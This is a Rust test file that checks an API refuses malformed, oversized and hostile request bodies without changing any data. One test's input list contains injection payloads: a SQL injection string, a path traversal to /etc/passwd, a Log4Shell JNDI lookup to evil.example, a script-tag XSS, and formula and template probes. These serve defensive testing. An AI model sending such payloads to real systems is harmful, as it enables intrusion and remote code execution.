//! Malformed request bodies: each is refused as the contract says, and nothing changes.

use serde_json::{Value, json};

use crate::faults::requests::{BODY_BYTES_MAX, SampleWorkspace, UNKNOWN, conforming};
use crate::support::harness::{World, operations};
use crate::support::invariants::read_without_limits;

/// Bodies that every operation refuses, each with a description.
fn malformed_bodies(fields: &[String]) -> Vec<(String, Vec<u8>)> {
    let texts = [
        "",
        "  \r\n",
        "x",
        "{",
        "[]",
        "null",
        "1",
        "\"text\"",
        "{}{}",
        "{\"a\":1,}",
        "{'a':1}",
        "NaN",
        "\u{feff}{}",
        "\0",
        "{\"a\":\"b\0\"}",
        "{\"a\":\"\\ud800\"}",
        "{\"a\":1e999}",
        "{\"a\":-1e999}",
        "{\"a\":.1}",
        "{\"a\":01}",
    ];
    let mut bodies: Vec<(String, Vec<u8>)> = texts
        .iter()
        .map(|text| (format!("{text:?}"), text.as_bytes().into()))
        .collect();
    bodies.push(("invalid UTF-8".to_owned(), b"\xff\xfe{}".to_vec()));
    bodies.push(("invalid UTF-8 in a text".to_owned(), b"{\"a\":\"\xff\"}".to_vec()));
    bodies.push(("60,000 lists".to_owned(), "[".repeat(60_000).into_bytes()));
    bodies.push(("10,000 objects".to_owned(), "{\"a\":".repeat(10_000).into_bytes()));
    bodies.push((
        "the largest permitted size".to_owned(),
        " ".repeat(BODY_BYTES_MAX).into_bytes(),
    ));
    let huge = format!("1{}", "0".repeat(300));
    for value in ["1", "-1", "1.5", "true", "[\"a\"]", "{\"a\":1}", huge.as_str()] {
        let all: Vec<String> = fields.iter().map(|field| format!("{field:?}:{value}")).collect();
        bodies.push((
            format!("every field {value:.20}"),
            format!("{{{}}}", all.join(",")).into_bytes(),
        ));
        bodies.push((
            format!("every field {value:.20}, twice"),
            format!("{{{},{}}}", all.join(","), all.join(",")).into_bytes(),
        ));
    }
    bodies
}

#[tokio::test]
async fn a_malformed_body_is_refused_with_422_and_changes_nothing() {
    let world = World::new().await;
    let sample = SampleWorkspace::new(&world).await;
    let before = read_without_limits(&world).await;
    for operation in operations() {
        let Some(fields) = &operation.fields else { continue };
        assert!(!fields.is_empty(), "{} has no fields", operation.name());
        let path = operation.about(&sample.id(&operation.path));
        let caller = if operation.open {
            sample.owner.signed_out()
        } else {
            sample.owner.clone()
        };
        for (name, body) in malformed_bodies(fields) {
            let response = caller.raw(&operation.method, &path, body).await;
            assert_eq!(response.status, 422, "{} {name}: {}", operation.name(), response.text);
            let field_errors = conforming(response).invalid_fields();
            assert!(
                field_errors.iter().all(|field| field.starts_with("body")),
                "{} {name}: {field_errors:?}",
                operation.name()
            );
        }
    }
    assert_eq!(read_without_limits(&world).await, before);
}

#[tokio::test]
async fn an_unusual_text_in_every_field_is_refused() {
    let world = World::new().await;
    let sample = SampleWorkspace::new(&world).await;
    let before = read_without_limits(&world).await;
    let texts = [
        "",
        " ",
        "\0",
        "\u{202e}",
        "\u{1f4a5}",
        "' OR 1=1 --",
        "USER#1",
        "../../etc/passwd",
        "${jndi:ldap://evil.example}",
        "%00",
        "<script>alert(1)</script>",
        "a@b@c",
        "=1+1",
        "{{7*7}}",
    ];
    let long = "a".repeat(20_000);
    for operation in operations() {
        let Some(fields) = &operation.fields else { continue };
        let path = operation.about(&sample.id(&operation.path));
        let caller = if operation.open {
            sample.owner.signed_out()
        } else {
            sample.owner.clone()
        };
        for text in texts.into_iter().chain([long.as_str()]) {
            let body: Value = fields
                .iter()
                .map(|field| (field.clone(), json!(text)))
                .collect::<serde_json::Map<_, _>>()
                .into();
            let response = conforming(caller.call(&operation.method, &path, Some(body)).await);
            assert!(
                response.status.is_client_error(),
                "{} {text:?}: {}",
                operation.name(),
                response.text
            );
        }
    }
    assert_eq!(read_without_limits(&world).await, before);
}

#[tokio::test]
async fn a_body_over_the_size_limit_is_refused_before_all_other_checks() {
    let world = World::new().await;
    let sample = SampleWorkspace::new(&world).await;
    let before = read_without_limits(&world).await;
    for operation in operations() {
        for caller in [sample.owner.clone(), sample.owner.signed_out()] {
            let path = operation.about(&sample.id(&operation.path));
            let response = caller
                .raw(&operation.method, &path, vec![b' '; BODY_BYTES_MAX + 1])
                .await;
            conforming(response).refused(413, "PAYLOAD_TOO_LARGE");
        }
    }
    assert_eq!(read_without_limits(&world).await, before);
}

#[tokio::test]
async fn a_body_is_ignored_by_operations_without_a_body() {
    let world = World::new().await;
    let sample = SampleWorkspace::new(&world).await;
    for operation in operations().into_iter().filter(|operation| operation.fields.is_none()) {
        for body in ["", "{", "[1]", "\u{0}"] {
            if operation.method == "GET" {
                conforming(sample.owner.raw("GET", &operation.path, body).await.expect(200));
            } else {
                let response = sample
                    .owner
                    .signed_out()
                    .raw(&operation.method, &operation.about(UNKNOWN), body)
                    .await;
                conforming(response).refused(401, "TOKEN_MISSING");
            }
        }
    }
}
